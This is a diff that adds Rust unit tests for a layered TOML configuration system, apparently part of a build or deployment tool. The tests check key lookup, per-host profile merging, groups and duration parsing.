+    fn test_settings_get_dotted() {
+        let settings = Settings::parse("[gc]\nkeep = 5").unwrap();
+        assert_eq!(settings.get("gc.keep"), Some(toml::Value::Integer(5)));
+        assert_eq!(settings.get("gc.older_than"), None);
+    }
+
+    #[test]
+    fn test_lookup_reports_file_and_line() {
+        let config = Config::from_layers(vec![
+            layer("user.toml", "[gc]\nkeep = 3"),
+            layer("bonk.toml", "build_host = \"b\"\n\n[gc]\nkeep = 10"),
+        ]);
+        let (value, source) = config.lookup("gc.keep").unwrap();
+        assert_eq!(value, toml::Value::Integer(10));
+        assert_eq!(
+            source,
+            Source::File {
+                path: PathBuf::from("bonk.toml"),
+                line: Some(4)
+            }
+        );
+    }
+
+    #[test]
+    fn test_find_key_unknown() {
+        assert!(find_key("gc.keep").is_ok());
+        assert!(find_key("gc.kep").is_err());
+    }
+
+    #[test]
+    fn test_parse_value_kinds() {
+        let keep = find_key("gc.keep").unwrap();
+        assert!(parse_value(keep, &["5".to_string()]).is_ok());
+        assert!(parse_value(keep, &["five".to_string()]).is_err());
+
+        let trace = find_key("os.trace").unwrap();
+        assert!(parse_value(trace, &["true".to_string(), "false".to_string()]).is_err());
+    }
+
+    #[test]
+    fn test_host_profiles_merge_per_key() {
+        let config = Config::from_layers(vec![
+            layer(
+                "user.toml",
+                "[hosts.zebes]\ntarget = \"root@10.0.0.5\"\nbuild_host = \"a\"",
+            ),
+            layer("bonk.toml", "[hosts.zebes]\nbuild_host = \"b\""),
+        ]);
+        let profile = config.host_profile("zebes").unwrap();
+        assert_eq!(profile.target.as_deref(), Some("root@10.0.0.5"));
+        assert_eq!(profile.build_host.as_deref(), Some("b"));
+        assert!(config.host_profile("rune").is_none());
+    }
+
+    #[test]
+    fn test_group_lookup() {
+        let config = Config::from_layers(vec![layer(
+            "bonk.toml",
+            "[groups]\nservers = [\"zebes\", \"ridley\"]",
+        )]);
+        assert_eq!(config.group("servers").unwrap(), ["zebes", "ridley"]);
+        assert!(config.group("desktops").is_err());
+    }
+
+    #[test]
+    fn test_parse_duration() {
+        assert_eq!(parse_duration("90").unwrap(), Duration::from_secs(90));
+        assert_eq!(parse_duration("30m").unwrap(), Duration::from_secs(1_800));
+        assert_eq!(parse_duration("2h").unwrap(), Duration::from_secs(7_200));
+        assert!(parse_duration("2d").is_err());
+        assert!(parse_duration("soon").is_err());
+    }
+}